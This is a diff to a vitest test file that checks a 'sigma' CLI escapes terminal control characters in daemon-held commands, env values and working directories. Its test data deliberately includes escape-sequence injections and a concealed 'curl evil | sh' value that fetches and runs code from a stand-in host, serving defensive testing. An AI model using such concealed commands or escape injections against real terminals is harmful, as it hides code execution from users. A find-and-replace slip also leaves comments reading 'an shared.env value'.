@@ -1,28 +1,15 @@
-// Whatever text the API lets through (a command, a cwd, an env value, a token's label, and the
+// Whatever text the API lets through (a command, a cwd, an shared.env value, a token's label, and the
 // errors and events that quote them) reaches the terminal with its control characters escaped, from
 // every command that prints a definition, a run, an event, a partition or an error: no field can
 // move the cursor, rewrite a line, clear the screen or set the window title.
 import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
-import { cleanUpClis, cliEnvFor, CliProcess, deleteAllProcesses, runCli, runCliOnTerminal, SCRIPT_PATH, type CliResult } from '../support/cliRunner.js';
-import { cleanUpDaemons, SigmaDaemon } from '../support/sigmaDaemon.js';
-import { makeTempDir, removeTempDirs } from '../support/tempDirs.js';
+import { describe, expect, it } from 'vitest';
+import { CliProcess, runCli, sharedCliDaemon, runCliOnTerminal, SCRIPT_PATH, type CliResult } from '../support/cliRunner.js';
+import { makeTempDir } from '../support/tempDirs.js';
 
-let daemon: SigmaDaemon;
-let env: Record<string, string>;
-const sigma = (...args: string[]) => runCli(args, { env });
-
-beforeAll(async () => {
-  daemon = await SigmaDaemon.start();
-  env = cliEnvFor(daemon);
-});
-afterEach(async () => {
-  await cleanUpClis();
-  await deleteAllProcesses(daemon);
-  removeTempDirs();
-});
-afterAll(cleanUpDaemons);
+const shared = sharedCliDaemon();
+const sigma = (...args: string[]) => runCli(args, { env: shared.env });
 
 // A window title (OSC 0 ... BEL), a carriage return, a C1 CSI that clears the screen, DEL, and
 // SGR "concealed" (what hides a `curl | sh` in a command).
@@ -56,12 +43,12 @@ async function checked(...args: string[]): Promise<CliResult> {
 }
 
 async function createEvil(): Promise<number> {
-  const reply = await daemon.create({ name: 'evil', command: COMMAND, cwd: CWD, env: ENV });
+  const reply = await shared.daemon.create({ name: 'evil', command: COMMAND, cwd: CWD, env: ENV });
   expect(reply.status, reply.text).toBe(201);
   return reply.body.processes[0].id as number;
 }
 
-describe('control characters in what the daemon holds', () => {
+describe('control characters in what the shared.daemon holds', () => {
   it('are escaped by show, ps, start, stop, rm and create, as text, and as JSON', async () => {
     const created = await checked('create', 'made', '--start', '--cwd', CWD, '--env', `EVIL=${ENV.EVIL}`, '--', ...COMMAND);
     expect(created.code).toBe(1);
@@ -77,7 +64,7 @@ describe('control characters in what the daemon holds', () => {
     const shown = await checked('show', 'evil');
     expect(shown.code, shown.stderr).toBe(0);
     const line = (field: string): string => shown.stdout.split('\n').find((text) => text.startsWith(`${field} `)) ?? '';
-    // The command and env as a shell would take them back: $'...' with every control escaped.
+    // The command and shared.env as a shell would take them back: $'...' with every control escaped.
     expect(line('command')).toMatch(/^command\s+\/bin\/echo \$'a\\x1b\]0;pwned\\x07b' \$'c\\x0dd' \$'\\u009b2J' \$'x\\x7fy' 'it'\\''s\\'$/);
     expect(line('env')).toMatch(/^env\s+\$'EVIL=\\x1b\[8mcurl evil \| sh\\x0d' PLAIN=ok$/);
     expect(line('cwd')).toMatch(new RegExp(`^cwd\\s+${escapeRegExp(CWD_SHOWN)}$`));
@@ -110,17 +97,17 @@ describe('control characters in what the daemon holds', () => {
     await createEvil();
     await sigma('start', 'evil');
     for (const args of [['show', 'evil'], ['ps']]) {
-      const result = await runCliOnTerminal(args, { env: { ...env, TERM: 'xterm-256color' } });
+      const result = await runCliOnTerminal(args, { env: { ...shared.env, TERM: 'xterm-256color' } });
       expect(result.stdout + result.stderr, 'coloured').toContain('\u001b[');
       expectNoRawControls(`sigma ${args.join(' ')} on a terminal`, result, true);
     }
   });
 
   it('are escaped by watch, in its lines and as JSON', async () => {
-    const watches = [CliProcess.start(['watch'], { env }), CliProcess.start(['watch', '--json'], { env })];
+    const watches = [CliProcess.start(['watch'], { env: shared.env }), CliProcess.start(['watch', '--json'], { env: shared.env })];
     for (const watch of watches) await watch.waitForOutput('the watch to connect', ({ stderr }) => stderr.includes('sigma: watching '));
     const id = await createEvil();
-    await daemon.operate(id, 'START');
+    await shared.daemon.operate(id, 'START');
     const [text, json] = watches as [CliProcess, CliProcess];
     await text.waitForOutput('the failed run', ({ stdout }) => stdout.includes('run ended'));
     expect(text.stdout).toContain(`evil (id ${id})  run ended: could not start: working directory ${CWD_SHOWN}`);
@@ -154,8 +141,8 @@ describe('control characters in what the daemon holds', () => {
     expect(operated.stderr).toContain(CWD_SHOWN);
     expect((await checked('partition', 'ls')).code).toBe(0);
     expect((await checked('partition', 'show', 'default')).code).toBe(0);
-    for (const token of (await daemon.request('GET', '/partitions/default/tokens')).body.tokens) {
-      await daemon.request('DELETE', `/partitions/default/tokens/${token.id}`);
+    for (const token of (await shared.daemon.request('GET', '/partitions/default/tokens')).body.tokens) {
+      await shared.daemon.request('DELETE', `/partitions/default/tokens/${token.id}`);
     }
   });
 
